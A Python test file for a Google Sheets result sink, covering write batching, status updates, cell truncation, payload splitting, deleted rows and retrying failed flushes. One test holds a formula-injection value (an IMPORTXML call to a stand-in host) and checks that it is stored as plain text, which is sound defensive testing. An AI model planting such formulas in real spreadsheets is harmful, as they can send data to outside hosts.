"""The batched result sink: coalescing, RAW text, truncation, payload splitting, deleted rows."""

from __future__ import annotations

from service.domain.hints import hint_for
from service.domain.sources import SheetSource
from service.files.cells import TRUNCATION_MARKER
from service.sheets.google_api import GoogleSheetsApi
from service.sheets.port import PreparedSheet
from service.sheets.prepare import prepare_sheet
from service.sheets.sink import SheetResultSink
from tests.fakes.sheets_server import FakeClock, FakeSheetsServer
from tests.sheets.conftest import companies
from tests.sheets.helpers import NOW, done_row, failed_row, job, leased_row, pending_row

FIELDS = ["industry", "description"]


def _prepare(server: FakeSheetsServer, api: GoogleSheetsApi, rows: list[list[str]]) -> PreparedSheet:
    server.create_spreadsheet("s", {"Sheet1": rows}, rows=max(1000, len(rows) + 10))
    return prepare_sheet(api, SheetSource("s", sheet_name="Sheet1"), FIELDS, key_prefix="job1")


def _by_name(server: FakeSheetsServer) -> dict[str, dict[str, str]]:
    header, *rows = server.values("s", "Sheet1")
    return {row[0]: dict(zip(header, row, strict=False)) for row in rows if row and row[0]}


def test_many_rows_in_one_window_cost_one_search_and_one_write(
    server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
) -> None:
    prepared = _prepare(server, api, companies(200))
    sink = SheetResultSink(api, prepared.source, flush_interval=5.0, clock=clock)
    writes_before = server.calls["values.batchUpdate"]
    for record in prepared.table.records:
        sink.write(job(), [done_row(record.key, record.cells["Company"])])
    assert server.calls["values.batchUpdate"] == writes_before  # still inside the window
    sink.close()
    assert server.calls["values.batchUpdate"] - writes_before == 1
    assert server.calls["developerMetadata.search"] == 1  # rows and columns found in one search
    assert server.calls["values.batchGet"] == 2  # the submit's read, then the flush's one identity check
    row = _by_name(server)["Company 0123"]
    assert row["Rowscout status"] == "done" and row["Industry"] == "Industry of Company 0123"
    assert row["Researched at"] == NOW.isoformat(timespec="seconds")
    assert row["Sources"] == "https://company0123.example/about (industry, description)"


def test_statuses_then_results_and_the_window(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
    prepared = _prepare(server, api, companies(3))
    keys = [r.key for r in prepared.table.records]
    sink = SheetResultSink(api, prepared.source, flush_interval=5.0, clock=clock)
    sink.write(job(), [pending_row(key, f"Company {i:04d}") for i, key in enumerate(keys)])
    sink.flush()
    assert [r["Rowscout status"] for r in _by_name(server).values()] == ["queued"] * 3
    sink.write(job(), [leased_row(keys[0], "Company 0000")])
    clock.advance(5.0)
    sink.write(job(), [failed_row(keys[1], "Company 0001")])  # the window has passed: flushes both
    rows = _by_name(server)
    assert rows["Company 0000"]["Rowscout status"] == "researching"
    assert rows["Company 0001"]["Rowscout status"] == (
        f"failed: timeout — site took longer than 60 s. What to do: {hint_for('timeout')}"
    )
    assert rows["Company 0001"].get("Industry", "") == ""


def test_formula_looking_text_stays_text(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
    prepared = _prepare(server, api, companies(1))
    key = prepared.table.records[0].key  # type: ignore[index]
    evil = '=IMPORTXML("http://evil.example","//a")'
    sink = SheetResultSink(api, prepared.source, clock=clock)
    sink.write(job(), [done_row(key, "Company 0000", description=evil)])
    sink.close()
    assert prepared.source.layout is not None
    column = prepared.source.layout.columns["description"]
    cell = server.model.book("s").sheets[0].get(1, column)
    assert cell is not None and (cell.kind, cell.value) == ("string", evil)
    assert all(w.body.get("valueInputOption", "RAW") == "RAW" for w in server.writes)


def test_long_cells_are_truncated_with_a_marker(
    server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
) -> None:
    prepared = _prepare(server, api, companies(1))
    key = prepared.table.records[0].key  # type: ignore[index]
    sink = SheetResultSink(api, prepared.source, clock=clock)
    sink.write(job(), [done_row(key, "Company 0000", description="x" * 60_000)])
    sink.close()
    text = _by_name(server)["Company 0000"]["Description"]
    assert len(text) == 50_000 and text.endswith(TRUNCATION_MARKER)


def test_payload_is_split_under_the_limit(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
    prepared = _prepare(server, api, companies(60))
    sink = SheetResultSink(api, prepared.source, clock=clock, max_payload_bytes=20_000)
    before = len(server.writes)
    for i, record in enumerate(prepared.table.records):
        name = record.cells["Company"]
        sink.write(job(), [done_row(record.key, name, description=f"{i} " + "d" * 1500)])
    result = sink.flush()
    value_writes = [w for w in server.writes[before:] if w.method == "values.batchUpdate"]
    assert len(value_writes) == result.calls >= 5
    assert all(w.size <= 20_000 for w in value_writes)
    assert len(result.written) == 60 and len(_by_name(server)) == 60
    assert _by_name(server)["Company 0042"]["Description"].startswith("42 ddd")


def test_deleted_row_is_reported_skipped_not_written_elsewhere(
    server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
) -> None:
    prepared = _prepare(server, api, companies(5))
    records = list(prepared.table.records)
    server.delete_rows("s", "Sheet1", start=2, end=3)  # "Company 0001" (sheet row 3)
    sink = SheetResultSink(api, prepared.source, clock=clock)
    sink.write(job(), [done_row(r.key, r.cells["Company"]) for r in records])
    result = sink.flush()
    assert result.skipped == [records[1].key] and sink.skipped == {records[1].key}
    rows = _by_name(server)
    assert "Company 0001" not in rows
    assert all(rows[n]["Industry"] == f"Industry of {n}" for n in rows)
    assert len(server.values("s", "Sheet1")) == 5  # nothing written below the data


def test_failed_flush_keeps_rows_for_the_next_one(
    server: FakeSheetsServer,
    make_api,
    clock: FakeClock,  # type: ignore[no-untyped-def]
) -> None:
    from service.domain.errors import SheetsError
    from service.domain.retry import RetryPolicy

    api = make_api(retry=RetryPolicy(max_attempts=2))
    prepared = _prepare(server, api, companies(4))
    sink = SheetResultSink(api, prepared.source, clock=clock)
    sink.write(job(), [done_row(r.key, r.cells["Company"]) for r in prepared.table.records])
    server.fail_next(2, status=503)
    try:
        sink.flush()
        raise AssertionError("flush should have failed")
    except SheetsError as exc:
        assert exc.retryable
    assert sink.flush().written and len(_by_name(server)) == 4
